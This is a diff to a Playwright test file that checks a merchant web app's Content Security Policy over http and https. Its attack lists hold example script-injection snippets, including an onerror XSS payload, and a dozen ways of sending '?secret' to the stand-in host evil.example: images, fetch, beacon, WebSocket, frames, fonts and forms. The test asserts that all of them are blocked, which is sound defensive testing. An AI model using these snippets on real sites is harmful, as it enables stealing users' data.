@@ -1,6 +1,8 @@
 import type { Page } from '@playwright/test';
 import { captchaScript } from '#api/offline/stand-in-scripts.ts';
-import { expect, message, newestPin, signIn, stoppedFooter, test } from './fixtures.ts';
+import { dist, expect, message, newestPin, signIn, stoppedFooter, test } from './fixtures.ts';
+import { startNginx } from './start-nginx.ts';
+import { startTestServer } from './test-server.ts';
 
 // A violation is an error of the page, and every test ends with the check that there were none (fixtures.ts).
 test.use({ hosting: 'headers' });
@@ -94,87 +96,214 @@ test('the language switch', async ({ page }) => {
   await expect(page.locator('html')).toHaveAttribute('lang', /^es/);
 });
 
-test.describe('what the policy stops', () => {
-  // These pages have violations, on purpose.
-  test.use({ provoked: /violat|Trusted|blocked|net::ERR/ });
+/** The site by https, as merchants have it: an https page may load from more hosts than an http page. */
+const secureTest = test.extend({
+  ignoreHTTPSErrors: true,
+  server: async ({ hosting: _ }, use) => {
+    const server = await startTestServer({ dist });
+    const nginx = await startNginx({ dist, upstream: server.url, secure: true });
+    await use({ ...server, url: nginx.url });
+    await nginx.close();
+    await server.close();
+  },
+});
 
-  /** What is tried, and the directives that may stop it: with a default policy the script's host decides. */
-  const attacks: readonly (readonly [string, () => void, RegExp?])[] = [
-    [
-      'inline script',
-      () => {
-        const script = document.createElement('script');
-        script.append('window.attacked = true');
-        document.body.append(script);
-      },
-      // Not run, and not always reported: the default policy has no say over script text.
-    ],
-    [
-      'script of another host by its address',
-      () => {
-        const script = document.createElement('script');
-        script.src = 'https://evil.example/a.js';
-        document.body.append(script);
-      },
-      /^(require-trusted-types-for|script-src-elem)$/,
-    ],
-    [
-      'an imported module of another host',
-      () => void import('https://evil.example/a.js' as string).catch(() => undefined),
-      /^script-src-elem$/,
-    ],
-    [
-      'a picture that calls home by http',
-      () => {
-        new Image().src = 'http://evil.example/?secret';
-      },
-      /^img-src$/,
-    ],
-    [
-      'a call to another host',
-      () => void fetch('https://evil.example/?secret').catch(() => undefined),
-      /^connect-src$/,
-    ],
-    [
-      'HTML from text',
-      () => {
-        document.body.innerHTML = '<img src=x onerror="window.attacked = true">';
-      },
-      /^(require-trusted-types-for|script-src-elem)$/,
-    ],
-    [
-      'a form to another host',
-      () => {
-        const form = document.createElement('form');
-        form.action = 'https://evil.example/';
-        form.method = 'post';
-        document.body.append(form);
-        form.submit();
-      },
-      /^form-action$/,
-    ],
-  ];
-  for (const [name, attack, directive] of attacks) {
-    test(name, async ({ page, server }) => {
-      const violations = await countViolations(page);
-      await page.goto('/');
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-      await page.evaluate(attack).catch(() => undefined);
-      if (directive !== undefined)
-        await expect.poll(violations).toContainEqual(expect.stringMatching(directive));
-      expect(await page.evaluate(() => (window as { attacked?: boolean }).attacked)).toBeUndefined();
-      expect(page.url()).toBe(`${server.url}/`);
+secureTest('by https: login and hand-off', async ({ page, server }) => {
+  await page.goto('/Login?sp=1');
+  await signIn(page, 'merchant');
+  await expect(page).toHaveURL(`${server.url}/console?sp=1`);
+});
+
+/** What is tried, and the directives that may stop it: with a default policy the script's host decides. */
+type Attack = readonly [name: string, run: () => void, directive?: RegExp];
+
+/** Ways to run foreign script. */
+const scriptAttacks: readonly Attack[] = [
+  [
+    'inline script',
+    () => {
+      const script = document.createElement('script');
+      script.append('window.attacked = true');
+      document.body.append(script);
+    },
+    // Not run, and not always reported: the default policy has no say over script text.
+  ],
+  [
+    'script of another host by its address',
+    () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/a.js';
+      document.body.append(script);
+    },
+    /^(require-trusted-types-for|script-src-elem)$/,
+  ],
+  [
+    'a script of the captcha host that is not the captcha',
+    () => {
+      const script = document.createElement('script');
+      script.src = 'https://www.google.com/recaptcha/about/js/main.min.js';
+      document.body.append(script);
+    },
+    /^(require-trusted-types-for|script-src-elem)$/,
+  ],
+  [
+    'an imported module of another host',
+    () => void import('https://evil.example/a.js' as string).catch(() => undefined),
+    /^script-src-elem$/,
+  ],
+  [
+    'HTML from text',
+    () => {
+      document.body.innerHTML = '<img src=x onerror="window.attacked = true">';
+    },
+    /^(require-trusted-types-for|script-src-elem)$/,
+  ],
+];
+
+/** Ways to send out what a merchant types. */
+const leaks: readonly Attack[] = [
+  [
+    'an image of another https host',
+    () => {
+      new Image().src = 'https://evil.example/?secret';
+    },
+    /^img-src$/,
+  ],
+  [
+    'an image of another http host',
+    () => {
+      new Image().src = 'http://evil.example/?secret';
+    },
+    /^img-src$/,
+  ],
+  [
+    'a background image',
+    () => {
+      document.body.style.backgroundImage = 'url(https://evil.example/?secret)';
+    },
+    /^img-src$/,
+  ],
+  [
+    'a call to another host',
+    () => void fetch('https://evil.example/?secret').catch(() => undefined),
+    /^connect-src$/,
+  ],
+  ['a beacon', () => void navigator.sendBeacon('https://evil.example/', 'secret'), /^connect-src$/],
+  ['a socket', () => void new WebSocket('wss://evil.example/?secret'), /^connect-src$/],
+  ['an event stream', () => void new EventSource('https://evil.example/?secret'), /^connect-src$/],
+  [
+    'a frame',
+    () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/?secret';
+      document.body.append(frame);
+    },
+    /^frame-src$/,
+  ],
+  [
+    'a video',
+    () => {
+      const video = document.createElement('video');
+      video.src = 'https://evil.example/?secret';
+      document.body.append(video);
+    },
+    /^media-src$/,
+  ],
+  [
+    'a font',
+    () => void new FontFace('x', 'url(https://evil.example/?secret)').load().catch(() => undefined),
+    /^font-src$/,
+  ],
+  [
+    'a style sheet',
+    () => {
+      const link = document.createElement('link');
+      link.rel = 'stylesheet';
+      link.href = 'https://evil.example/?secret';
+      document.head.append(link);
+    },
+    /^style-src-elem$/,
+  ],
+  [
+    'a form to another host',
+    () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      form.method = 'post';
+      document.body.append(form);
+      form.submit();
+    },
+    /^form-action$/,
+  ],
+];
+
+for (const [site, siteTest] of [
+  ['http', test],
+  ['https', secureTest],
+] as const) {
+  siteTest.describe(`by ${site} the policy stops`, () => {
+    // These pages have violations, on purpose.
+    siteTest.use({ provoked: /violat|Trusted|blocked|net::ERR|Mixed Content/ });
+
+    for (const [kind, attacks] of [
+      ['foreign script', scriptAttacks],
+      ['data on its way to another host', leaks],
+    ] as const) {
+      siteTest(kind, async ({ page, server }) => {
+        const requested: string[] = [];
+        await page.route(/evil\.example|\/recaptcha\/about\//, (route) => {
+          requested.push(route.request().url());
+          return route.fulfill({ contentType: 'text/javascript', body: 'window.attacked = true' });
+        });
+        const violations = await countViolations(page);
+        await page.goto('/');
+        await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+        for (const [, attack] of attacks) await page.evaluate(attack).catch(() => undefined);
+        const patterns = attacks.flatMap(([, , directive]) => directive?.source ?? []);
+        for (const pattern of new Set(patterns)) {
+          const reported = async () =>
+            (await violations()).filter((directive) => new RegExp(pattern).test(directive)).length;
+          const attempts = patterns.filter((other) => other === pattern).length;
+          await expect.poll(reported, { message: pattern }).toBeGreaterThanOrEqual(attempts);
+        }
+        expect(await page.evaluate(() => (window as { attacked?: boolean }).attacked)).toBeUndefined();
+        expect(requested).toEqual([]);
+        expect(page.url()).toBe(`${server.url}/`);
+      });
+    }
+
+    siteTest('being framed', async ({ page, server }) => {
+      await page.route('https://evil.example/', (route) =>
+        route.fulfill({ contentType: 'text/html', body: `<iframe src="${server.url}/"></iframe>` }),
+      );
+      await page.goto('https://evil.example/');
+      await expect
+        .poll(() => page.frames().map((frame) => frame.url()))
+        .toContain('chrome-error://chromewebdata/');
+      await expect(page.frameLocator('iframe').getByLabel('Username')).toHaveCount(0);
     });
-  }
+  });
+}
 
-  test('being framed', async ({ page, server }) => {
-    await page.route('https://evil.example/', (route) =>
-      route.fulfill({ contentType: 'text/html', body: `<iframe src="${server.url}/"></iframe>` }),
-    );
-    await page.goto('https://evil.example/');
-    await expect
-      .poll(() => page.frames().map((frame) => frame.url()))
-      .toContain('chrome-error://chromewebdata/');
-    await expect(page.frameLocator('iframe').getByLabel('Username')).toHaveCount(0);
+test.describe('a brand whose logo is on a host that deploy/hosts.ts does not name', () => {
+  test.use({ provoked: /violat/i });
+
+  test('shows its title instead, and requests nothing', async ({ page, server }) => {
+    const requested: string[] = [];
+    await page.route('https://logos.example/**', (route) => {
+      requested.push(route.request().url());
+      return route.fulfill({
+        contentType: 'image/svg+xml',
+        body: '<svg xmlns="http://www.w3.org/2000/svg"/>',
+      });
+    });
+    server.script({
+      method: 'GET',
+      path: '/themesvc/v1/themes/shop',
+      body: { id: 'shop', title: 'Shop', supportPhone: '1', logo: 'https://logos.example/a.svg' },
+    });
+    await page.goto('/?cobrand=shop');
+    await expect(page.getByRole('banner')).toContainText('Shop');
+    expect(requested).toEqual([]);
   });
 });
